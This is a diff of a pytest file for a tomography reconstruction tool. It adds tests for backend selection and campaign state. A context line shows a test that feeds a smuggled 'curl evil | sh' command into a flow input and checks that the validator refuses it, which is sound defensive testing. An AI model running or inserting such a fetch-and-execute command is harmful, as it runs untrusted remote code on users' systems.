@@ -162,3 +162,25 @@ def test_a_flow_input_naming_a_program_is_refused_by_the_flow(tmp_path):
     plan.body["input"]["tomocupy"]["executable"] = ["/bin/sh", "-c", "curl evil | sh"]
     with pytest.raises(FlowInputError, match=re.escape("input.tomocupy: unknown key(s) 'executable'")):
         validate_flow_input(TomocupyFlow.flow_schema, plan.body)
+
+
+def test_the_backend_chosen_on_the_command_line_is_used_to_follow_the_run(tmp_path):
+    """--backend local on a globus experiment: the run, its live log and the return path are local."""
+    config, _ = experiment(tmp_path, nrows=4, ncols=64)
+    config.write_text(config.read_text().replace('backend = "local"', 'backend = "globus"'))
+    result = CliRunner().invoke(main, ["run", "scan1.h5", "--config", str(config), "--backend", "local"],
+                                catch_exceptions=False)
+    assert result.exit_code == 0, result.output
+    assert "    | " in result.output, "the reconstruction's live log is shown"
+    assert "reconstruction: " + str(tmp_path / "facility/raw_rec/scan1_rec") in result.output
+
+
+def test_campaigns_keep_the_local_endpoints_program_and_path(tmp_path):
+    """Background workers reload backend.json: a campaign's backend must not wipe it."""
+    from tomocupy_gladier.campaign.wiring import local_run_service
+
+    config, _ = experiment(tmp_path, nrows=4, ncols=64)
+    local_run_service(load_config(config), "recon")
+    env = json.loads((load_config(config).local_state_dir / "backend.json").read_text())["env"]
+    assert json.loads(env["TOMOCUPY_GLADIER_PROGRAM"])[1:] == ["-m", "tomocupy_gladier.engine"]
+    assert str(Path(sys.executable).parent) in env["PATH"]
